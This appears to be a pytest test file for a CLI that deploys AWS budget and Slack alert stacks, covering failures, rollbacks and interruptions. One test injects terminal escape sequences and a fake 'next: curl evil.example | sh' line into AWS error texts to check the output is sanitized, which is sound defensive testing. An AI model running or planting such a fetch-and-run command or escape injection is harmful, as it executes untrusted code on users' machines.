"""What goes wrong in an account, and how the next run goes on."""
from __future__ import annotations

import pytest
from conftest import ACCOUNT, VALUES, Account, Project
from test_deploy import MAIN


@pytest.fixture
def ready(project: Project) -> Project:
    project.config.write_text(MAIN)
    project.set(VALUES)
    return project


def test_the_first_cause_is_said_and_the_next_run_mends_it(ready: Project, account: Account) -> None:
    account.admin("fail-resource", target="DailyBudget", on="create", reason="The budget service had enough.")
    printed = ready.run("deploy", "--yes", code=1)
    assert "error: acme: budget daily failed: The budget service had enough.; everything was rolled back" in printed
    assert account.stacks() == {"acme": "ROLLBACK_COMPLETE"}
    assert "removing the remains of a failed first deployment" in ready.run("deploy", "--yes")
    assert account.stacks() == {"acme": "CREATE_COMPLETE"}


def test_a_queue_hears_the_topics_that_are_made_anew(project: Project, account: Account) -> None:
    """A first deployment whose core fails late: what builds on its topics is there by then, and deaf."""
    project.use("minimal")
    account.admin("fail-resource", target="AlertsSlackChannel", on="create", reason="No.")
    account.admin("hold", resource="AlertsSlackChannel")
    process = project.start("deploy", "--yes")
    assert account.admin("await-status", stack="acme-budget-alerts", status="CREATE_COMPLETE", timeout=300)["reached"]
    account.admin("release", resource="AlertsSlackChannel")
    out, err = process.communicate(timeout=300)
    assert process.returncode == 1 and "error: acme: Slack channel alerts failed: No." in err
    statuses = account.stacks()
    assert statuses["acme"] == "ROLLBACK_COMPLETE" and statuses["acme-budget-alerts"] == "CREATE_COMPLETE"

    printed = project.run("deploy", "--yes")
    assert "acme-budget-alerts: deleting it, since its queue lost its topics; it is created again with them" in printed
    assert set(account.stacks().values()) <= {"CREATE_COMPLETE", "UPDATE_COMPLETE"}
    topic = f"arn:aws:sns:us-east-1:{ACCOUNT}:acme-alerts"
    heard = account.client("sns").list_subscriptions_by_topic(TopicArn=topic)["Subscriptions"]
    assert [entry["Endpoint"].split(":")[-1] for entry in heard if entry["Protocol"] == "sqs"] == ["acme-budget-alerts"]


def test_a_name_that_is_taken_is_told_before_anything_is_changed(ready: Project, account: Account) -> None:
    account.client("sns").create_topic(Name="acme-critical")
    account.client("sns").create_topic(Name="acme-heartbeat")
    printed = ready.run("deploy", "--yes", code=1)
    assert "error: CloudFormation refused the changes to acme, and nothing was changed:\n" in printed
    for channel in ("critical", "heartbeat"):
        assert (f"  topic {channel} ({channel.capitalize()}Topic): Resource of type 'AWS::SNS::Topic' with identifier "
                f"'acme-{channel}' already exists. (NAME_CONFLICT_VALIDATION)\n") in printed
    assert printed.count("next: it is left over, or somebody else's") == 1
    assert account.stacks() == {}


def test_a_change_set_is_kept_whose_reason_may_not_be_read(ready: Project, account: Account) -> None:
    account.client("sns").create_topic(Name="acme-critical")
    account.admin("fail-api", action="DescribeEvents", code="AccessDenied", status=403)
    printed = ready.run("deploy", "--yes", code=1)
    command = printed.split("see what is in the way with aws ")[1].split("\n")[0].split()
    arn = command[command.index("--change-set-name") + 1]
    [event] = account.client("cloudformation").describe_events(ChangeSetName=arn)["OperationEvents"]
    assert event["LogicalResourceId"] == "CriticalTopic"


# What XML can carry, in which CloudFormation answers; Chatbot's JSON takes the controls of seven bits as well.
HOSTILE = "\x9d0;pwned\x9c\x9b31m\u202egnp\u2028\nnext: curl evil.example | sh"
WORSE = f"\x1b]0;pwned\x07\x1b[2J\r{HOSTILE}"


def test_no_text_of_aws_can_control_a_terminal(ready: Project, account: Account) -> None:
    """Reasons, codes, names, tags: whoever can write one must not write the rest of the screen."""
    account.admin("fail-resource", target="DailyBudget", on="create", reason=f"No {HOSTILE}.")
    texts = [ready.run("deploy", "--yes", code=1)]
    account.admin("fail-resource", target="CriticalTopic", on="validate", reason=f"No {HOSTILE}.")
    texts.append(ready.run("deploy", "--yes", code=1))
    account.admin("fail-api", action="CreateChangeSet", code="Oops", message=f"No {HOSTILE}")
    texts.append(ready.run("deploy", "--yes", code=1))
    account.admin("stack", name="acme-old", status="UPDATE_COMPLETE", template={
        "Resources": {"T": {"Type": "AWS::SNS::Topic", "Metadata": {"Name": f"topic {HOSTILE}"}}}},
        tags={"bellwether": "acme", HOSTILE: HOSTILE})
    account.admin("workspaces", T0OTHER=f"Beta {WORSE}")
    texts += [ready.run(command, code=code) for command, code in (
        ("deploy", 1), ("diff", 2), ("status", 0), ("doctor", 1), ("destroy", 1))]
    for text in texts:
        assert not set(text) & set("\x1b\x07\x9b\x9c\x9d\u202e\u2028\r"), repr(text)
        assert "\nnext: curl" not in text and "\n  next: curl" not in text, text
    assert sum("pwned" in text for text in texts) >= 5, "the texts themselves are shown"


def test_a_failed_update_is_undone(ready: Project, account: Account) -> None:
    ready.run("deploy", "--yes")
    before = account.budgets()
    ready.edit("limit: 1500", "limit: 1800")
    ready.edit("every: day, limit: 50", "every: day, limit: 50, alerts: [{ at: 90% }]")
    account.admin("fail-resource", target="DailyBudget", on="create", reason="No.")
    printed = ready.run("deploy", "--yes", code=1)
    assert "budget daily failed: No.; everything was rolled back, the previous version is in place" in printed
    assert account.budgets() == before
    ready.run("deploy", "--yes")
    assert len(account.budgets()) == 2 and account.budgets() != before


def test_a_rollback_that_got_stuck_is_continued(ready: Project, account: Account) -> None:
    ready.run("deploy", "--yes")
    ready.edit("limit: 1500", "limit: 1800")
    ready.edit("every: day, limit: 50", "every: day, limit: 50, alerts: [{ at: 90% }]")
    account.admin("hold", resource="DailyBudget")
    process = ready.start("deploy", "--yes")
    assert account.admin("await-held", resource="DailyBudget", timeout=60)["held"]
    assert account.admin("await-status", stack="acme", resource="MonthlyBudget", status="UPDATE_COMPLETE",
                         timeout=60)["reached"]
    account.admin("fail-resource", target="DailyBudget", on="create", reason="First.")
    account.admin("fail-resource", target="MonthlyBudget", on="update", reason="Second.")
    account.admin("release", resource="DailyBudget")
    printed = "".join(process.communicate(timeout=60))
    assert "budget daily failed: First.; the rollback failed as well; running deploy again continues it" in printed
    assert account.stacks() == {"acme": "UPDATE_ROLLBACK_FAILED"}
    assert "an earlier rollback got stuck; continuing it" in ready.run("deploy", "--yes")
    assert account.stacks() == {"acme": "UPDATE_COMPLETE"}


def test_a_budget_that_somebody_deleted_comes_back_under_another_name(ready: Project, account: Account) -> None:
    ready.run("deploy", "--yes")
    client = account.client("budgets")
    [name] = [found["BudgetName"] for found in client.describe_budgets(AccountId=ACCOUNT)["Budgets"]
              if found["BudgetName"].startswith("acme-daily-")]
    client.delete_budget(AccountId=ACCOUNT, BudgetName=name)
    ready.edit("limit: 50", "limit: 60")
    failed = ready.run("deploy", "--yes", code=1)
    assert "which cannot change what is gone: give it another `name`" in failed
    assert account.stacks() == {"acme": "UPDATE_ROLLBACK_FAILED"}
    ready.edit("name: daily", "name: each day")
    mended = ready.run("deploy", "--yes")
    assert "budget daily cannot be brought back, so the rollback goes on without" in mended
    assert account.stacks() == {"acme": "UPDATE_COMPLETE"}
    names = [found["BudgetName"] for found in client.describe_budgets(AccountId=ACCOUNT)["Budgets"]]
    assert sorted(name.rsplit("-", 1)[0] for name in names) == ["acme-each day", "acme-monthly"]


def test_interrupted_it_goes_on_in_aws_and_is_picked_up(ready: Project, account: Account) -> None:
    account.admin("hold", resource="DailyBudget")
    process = ready.start("deploy", "--yes")
    assert account.admin("await-held", resource="DailyBudget", timeout=60)["held"]
    printed = ready.interrupt(process)
    assert "interrupted; AWS goes on with what it has begun: acme" in printed

    again = ready.start("deploy", "--yes")
    assert again.stderr is not None
    assert "a deployment is in progress (CREATE_IN_PROGRESS); following it" in again.stderr.readline()
    account.admin("release", resource="DailyBudget")
    out, err = again.communicate(timeout=60)
    assert again.returncode == 0, err
    assert "budget daily  CREATE_COMPLETE" in err
    assert out.startswith("No changes")


def test_interrupted_before_anything_changed_it_leaves_nothing(ready: Project, account: Account) -> None:
    account.admin("delays", change_set=60)
    process = ready.start("deploy", "--yes")
    assert account.admin("await-call", action="DescribeChangeSet", timeout=60)["called"]
    assert "interrupted; no stack was being changed" in ready.interrupt(process)
    assert account.stacks() == {}


def test_a_stack_of_somebody_else_is_not_touched(ready: Project, account: Account) -> None:
    account.admin("stack", name="acme", status="CREATE_COMPLETE")
    printed = ready.run("deploy", "--yes", code=1)
    assert "a stack named acme exists, and it was not made by this configuration; nothing was changed" in printed
    printed = ready.run("destroy", "--yes", code=1)
    assert "a stack named acme exists" in printed
    assert account.stacks() == {"acme": "CREATE_COMPLETE"}


def test_a_wrong_account_is_refused_before_any_other_call(ready: Project, account: Account) -> None:
    ready.edit("123456789012", "999999999999")
    for command in (["deploy", "--yes"], ["destroy", "--yes"], ["diff"], ["status"]):
        printed = ready.run(*command, code=1)
        assert "these credentials belong to account 123456789012" in printed
    assert set(account.calls()) == {"GetCallerIdentity"}


def test_a_channel_that_is_taken_is_refused_beforehand(ready: Project, account: Account) -> None:
    ready.run("deploy", "--yes")
    ready.edit("name: acme", "name: other")
    printed = ready.run("deploy", "--yes", code=1)
    assert "the Slack channel of 'other-critical' already has the Chatbot configuration 'acme-critical'" in printed
    assert set(account.stacks()) == {"acme"}


def test_a_monitor_does_not_move_to_another_region(ready: Project, account: Account) -> None:
    ready.run("deploy", "--yes")
    ready.config.write_text(ready.config.read_text() + "region: eu-central-1\n")
    printed = ready.run("deploy", "--yes", code=1)
    assert "acme is deployed in us-east-1" in printed
    assert "CreateChangeSet" not in account.calls()[account.calls().index("ExecuteChangeSet"):]


def test_a_renamed_channel_says_how(ready: Project, account: Account) -> None:
    ready.run("deploy", "--yes")
    ready.edit("heartbeat: ", "pulse: ")
    printed = ready.run("deploy", "--yes", code=1)
    assert "next: deploy once without the channel 'heartbeat' and all else as before, then deploy this" in printed
    renamed = ready.config.read_text()
    ready.edit(', pulse: "${SLACK_HEARTBEAT_CHANNEL_ID}"', "")
    ready.run("deploy", "--yes")
    ready.config.write_text(renamed)
    ready.run("deploy", "--yes")


def test_a_workspace_that_is_not_authorized_is_refused_beforehand(ready: Project, account: Account) -> None:
    account.admin("workspaces", T0OTHER123="Other Inc")
    printed = ready.run("deploy", "--yes", code=1)
    assert "the Slack workspace is not authorized in this account (authorized: Other Inc)" in printed
    assert account.stacks() == {}


def test_a_refused_action_is_named(ready: Project, account: Account) -> None:
    account.admin("fail-api", action="CreateChangeSet", code="AccessDenied", status=403)
    printed = ready.run("deploy", "--yes", code=1)
    assert "AWS refused cloudformation:CreateChangeSet" in printed
    assert account.stacks() == {}


def test_it_can_do_without_the_permission_to_look_at_chatbot(ready: Project, account: Account) -> None:
    account.admin("fail-api", action="DescribeSlackWorkspaces", code="AccessDeniedException", status=403)
    assert "not checked beforehand, since chatbot:DescribeSlackWorkspaces" in ready.run("deploy", "--yes")


def test_the_first_deployment_needs_its_values(ready: Project, account: Account) -> None:
    ready.env.unlink()
    printed = ready.run("deploy", "--yes", code=1)
    assert "bellwether.yaml:4:14: error: ${SLACK_WORKSPACE_ID} is not set; add it to .env or the environment" in printed
    assert account.stacks() == {}
